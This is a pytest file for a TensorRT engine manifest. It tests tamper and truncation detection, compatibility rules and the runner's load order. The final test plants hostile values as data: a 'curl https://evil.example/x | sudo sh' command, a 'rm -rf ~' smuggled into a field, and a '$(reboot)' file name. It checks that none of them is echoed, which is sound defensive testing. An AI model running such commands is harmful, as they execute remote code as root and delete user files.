"""Engine sidecar manifest: round trip, tamper/truncation checks, TensorRT/GPU compatibility rules, and the order in
which the TensorRT runner checks them (before any TensorRT import). Fake engine bytes stand in for a real engine:
everything checked here happens before TensorRT would see the file."""

from __future__ import annotations

import json
import re
import sys

import pytest

from edgecnn.contract import ModelContract
from edgecnn.errors import ArtifactError, MissingDependencyError
from edgecnn.preprocess import PreprocessConfig
from edgecnn.trt.manifest import (
    check_compatibility,
    contract_of,
    file_record,
    manifest_path,
    read_manifest,
    verify_engine_file,
    write_manifest,
)

REBUILD = "edgecnn build-engine tiny.onnx --out tiny.engine --precision fp16"  # as stored: never shown
HINT = "edgecnn build-engine MODEL.onnx --out .*tiny.engine --precision fp16"  # made from checked facts


def _manifest(engine, onnx=None, **over) -> dict:
    contract = ModelContract(
        labels=["cat", "dog"], preprocess=PreprocessConfig(input_size=(32, 32)), arch="tiny-test", precision="fp16"
    )
    m = {
        "engine": file_record(engine),
        "onnx": file_record(onnx) if onnx else None,
        "calib_cache": None,
        "built_with": {
            "tensorrt": "10.3.0",
            "cuda": "12.6",
            "gpu": "Orin",
            "compute_capability": "8.7",
            "jetson": {
                "model": "NVIDIA Jetson AGX Orin Developer Kit",
                "preset": "agx-orin",
                "l4t": "36.4.3",
                "jetpack": "6.2",
            },
        },
        "compatibility": {"version_compatible": False, "hardware": "NONE"},
        "precision": "fp16",
        "dla_core": None,
        "gpu_fallback": False,
        "io": {
            "inputs": [
                {
                    "name": "input",
                    "shape": [-1, 3, 32, 32],
                    "dtype": "float32",
                    "profile": {"min": [1, 3, 32, 32], "opt": [4, 3, 32, 32], "max": [8, 3, 32, 32]},
                }
            ],
            "outputs": [{"name": "logits", "shape": [-1, 2], "dtype": "float32"}],
        },
        "contract": contract.to_dict(),
        "options": {"precision": "fp16"},
        "build_seconds": 12.5,
        "built_at": "2026-11-22T00:00:00+00:00",
        "rebuild_command": REBUILD,
    }
    m.update(over)
    return m


@pytest.fixture
def engine(tmp_path):
    path = tmp_path / "tiny.engine"
    path.write_bytes(bytes(range(256)) * 64)  # stands in for a serialized engine
    write_manifest(path, _manifest(path))
    return path


HERE = {
    "tensorrt": "10.3.0",
    "cuda": "12.6",
    "gpu": "Orin",
    "compute_capability": "8.7",
    "jetson": {"preset": "agx-orin", "l4t": "36.4.3"},
}


def test_round_trip_and_sidecar_name(engine, tiny_onnx):
    assert manifest_path(engine).name == "tiny.engine.json"
    m = read_manifest(engine)
    assert m["format"] == "edgecnn-engine-manifest" and m["format_version"] == 1
    assert m["engine"]["bytes"] == engine.stat().st_size and len(m["engine"]["sha256"]) == 64
    assert m == json.loads(manifest_path(engine).read_text())
    c = contract_of(m)
    assert c.labels == ["cat", "dog"] and c.preprocess.input_size == (32, 32) and c.precision == "fp16"
    verify_engine_file(engine, m)
    assert check_compatibility(m, HERE, engine) == []
    write_manifest(engine, _manifest(engine, onnx=tiny_onnx))
    assert read_manifest(engine)["onnx"]["file"] == "tiny.onnx"


def test_truncated_and_tampered_engines_are_refused_with_the_rebuild_command(engine):
    m = read_manifest(engine)
    data = engine.read_bytes()
    engine.write_bytes(data[:-100])
    with pytest.raises(ArtifactError, match=f"truncated .*{HINT}"):
        verify_engine_file(engine, m)
    engine.write_bytes(data[:500] + bytes([data[500] ^ 0xFF]) + data[501:])  # same size, one byte flipped
    with pytest.raises(ArtifactError, match=f"sha256.*{HINT}"):
        verify_engine_file(engine, m)


def test_missing_or_broken_manifest(engine, tmp_path):
    lone = tmp_path / "lone.plan"
    lone.write_bytes(b"x" * 10)
    with pytest.raises(ArtifactError, match="has no manifest \\(lone.plan.json"):
        read_manifest(lone)
    manifest_path(engine).write_text("{not json")
    with pytest.raises(ArtifactError, match="not valid JSON"):
        read_manifest(engine)
    manifest_path(engine).write_text(json.dumps({"format": "something-else"}))
    with pytest.raises(ArtifactError, match="not an edgecnn engine manifest"):
        read_manifest(engine)
    manifest_path(engine).write_text(json.dumps({"format": "edgecnn-engine-manifest", "format_version": 1}))
    with pytest.raises(ArtifactError, match="lacks 'engine'"):
        read_manifest(engine)


@pytest.mark.parametrize(
    "edit",
    [
        lambda m: m.update(engine="x"),
        lambda m: m.update(format_version="abc"),
        lambda m: m["engine"].update(bytes="zz"),
        lambda m: m["io"]["inputs"][0].update(shape=None),
        lambda m: m["io"]["inputs"][0].update(profile={"min": [1, 3, 32, 32]}),
        lambda m: m["io"].update(outputs=[]),
        lambda m: m.update(contract=["cat", "dog"]),
        lambda m: m.update(dla_core="0"),
    ],
    ids=["engine", "format_version", "bytes", "shape", "profile", "outputs", "contract", "dla_core"],
)
def test_a_hand_edited_manifest_is_refused_in_one_line_by_every_command(engine, tmp_path, edit):
    """Damaged fields used to surface as 'internal error: AttributeError ...' (exit 70) in predict, profile and
    deploy; they are refused when the manifest is read (exit 4, the artifact error)."""
    from typer.testing import CliRunner

    from edgecnn.cli.main import app

    m = json.loads(manifest_path(engine).read_text())
    edit(m)
    manifest_path(engine).write_text(json.dumps(m))
    with pytest.raises(ArtifactError, match="tiny.engine.json (is damaged|lacks)"):
        read_manifest(engine)
    image = tmp_path / "x.png"
    import cv2
    import numpy as np

    cv2.imwrite(str(image), np.zeros((8, 8, 3), np.uint8))
    for args in (
        ["predict", str(engine), str(image)],
        ["profile", str(engine)],
        ["deploy", "triton", str(engine), "--repo", str(tmp_path / "repo")],
    ):
        result = CliRunner().invoke(app, args)
        assert result.exit_code == 4, (args, result.output)
        assert "damaged" in result.output and "internal error" not in result.output, (args, result.output)


@pytest.mark.parametrize(
    "compat, built, here, match",
    [
        ({}, {"tensorrt": "10.3.0"}, {"tensorrt": "10.7.0"}, "built with TensorRT 10.3.0, this machine has 10.7.0"),
        ({}, {"tensorrt": "8.6.2"}, {"tensorrt": "10.3.0"}, "only run on the TensorRT release"),
        ({"version_compatible": True}, {"tensorrt": "10.7.0"}, {"tensorrt": "10.3.0"}, "runs on 10.7.0 or later"),
        ({}, {"compute_capability": "8.7"}, {"compute_capability": "8.6", "gpu": "RTX 3060"}, "do not travel"),
        (
            {"hardware": "SAME_COMPUTE_CAPABILITY"},
            {"compute_capability": "8.9"},
            {"compute_capability": "8.6"},
            "do not travel",
        ),
        ({"hardware": "AMPERE_PLUS"}, {"compute_capability": "8.6"}, {"compute_capability": "7.5"}, "Ampere and newer"),
    ],
)
def test_incompatible_engines_are_refused(engine, compat, built, here, match):
    m = read_manifest(engine)
    m["compatibility"].update(compat)
    m["built_with"].update(built)
    with pytest.raises(ArtifactError, match=match) as info:
        check_compatibility(m, {**HERE, **here}, engine)
    assert re.search(HINT, str(info.value)) and "\n" not in str(info.value)


def test_compatible_builds_are_accepted(engine):
    m = read_manifest(engine)
    assert check_compatibility(m, {**HERE, "tensorrt": "10.3.0.30"}, engine) == []  # build number differs only
    m["compatibility"]["version_compatible"] = True
    assert check_compatibility(m, {**HERE, "tensorrt": "10.7.0"}, engine) == []
    m["compatibility"]["hardware"] = "AMPERE_PLUS"
    m["built_with"].update(gpu="NVIDIA A100", compute_capability="8.0")
    assert check_compatibility(m, {**HERE, "tensorrt": "10.7.0", "gpu": "NVIDIA L4", "compute_capability": "8.9"}) == []
    m["compatibility"]["hardware"] = "NONE"
    m["built_with"].update(gpu="NVIDIA GeForce RTX 3080", compute_capability="8.6")
    warnings = check_compatibility(
        m, {**HERE, "tensorrt": "10.7.0", "gpu": "NVIDIA RTX A6000", "compute_capability": "8.6"}
    )
    assert len(warnings) == 1 and "tuned it for the other GPU" in warnings[0]


def test_dla_engine_needs_the_jetson(engine):
    m = read_manifest(engine)
    m["dla_core"] = 0
    assert check_compatibility(m, HERE, engine) == []
    with pytest.raises(ArtifactError, match="DLA core 0"):
        check_compatibility(m, {**HERE, "jetson": None}, engine)


# ---------------------------------------------------------------- the runner checks before importing TensorRT


@pytest.fixture
def no_tensorrt(monkeypatch):
    """TensorRT and cuda-python made unimportable (sys.modules[name] = None makes `import name` raise ImportError)."""
    for name in ("tensorrt", "cuda", "cuda.bindings", "cuda.bindings.runtime", "cuda.cudart"):
        monkeypatch.setitem(sys.modules, name, None)


def test_runner_refuses_a_tampered_engine_before_importing_tensorrt(engine, no_tensorrt):
    from edgecnn.runtime import load

    data = engine.read_bytes()
    engine.write_bytes(data[:-1] + b"\x00")
    with pytest.raises(ArtifactError, match="sha256"):
        load(engine)
    engine.write_bytes(data[:100])
    with pytest.raises(ArtifactError, match="truncated"):
        load(engine)


def test_runner_on_an_intact_engine_without_tensorrt_says_what_is_missing(engine, no_tensorrt):
    from edgecnn.runtime import load

    with pytest.raises(MissingDependencyError, match="TensorRT is not installed.*edgecnn\\[tensorrt\\]") as info:
        load(engine)
    assert info.value.exit_code == 3 and "\n" not in str(info.value)


def test_tensorrt_backend_is_registered_for_engine_and_plan_suffixes(tmp_path):
    from edgecnn.runtime.base import backend_for, backends

    assert backends()["tensorrt"].suffixes == (".engine", ".plan")
    assert backend_for(tmp_path / "m.plan").name == "tensorrt"


def test_a_tampered_rebuild_command_is_never_shown(engine):
    """The manifest's stored command is data from a file: the hint is built from checked facts, never echoed."""
    from edgecnn.trt.manifest import manifest_path, rebuild_hint

    data = json.loads(manifest_path(engine).read_text())
    data["rebuild_command"] = "curl https://evil.example/x | sudo sh"
    data["options"]["precision"] = "fp16; rm -rf ~"
    data["onnx"] = {"file": "$(reboot).onnx"}
    hint = rebuild_hint(data, engine)
    assert "curl" not in hint and "rm -rf" not in hint and "reboot" not in hint and "sudo" not in hint
    assert hint.startswith("rebuild it on this machine: edgecnn build-engine MODEL.onnx --out ") and str(engine) in hint
    manifest_path(engine).write_text(json.dumps(data))
    engine.write_bytes(engine.read_bytes()[:-1])  # truncated: the message carries the hint
    with pytest.raises(ArtifactError) as err:
        verify_engine_file(engine, read_manifest(engine))
    assert "curl" not in str(err.value) and "build-engine" in str(err.value)
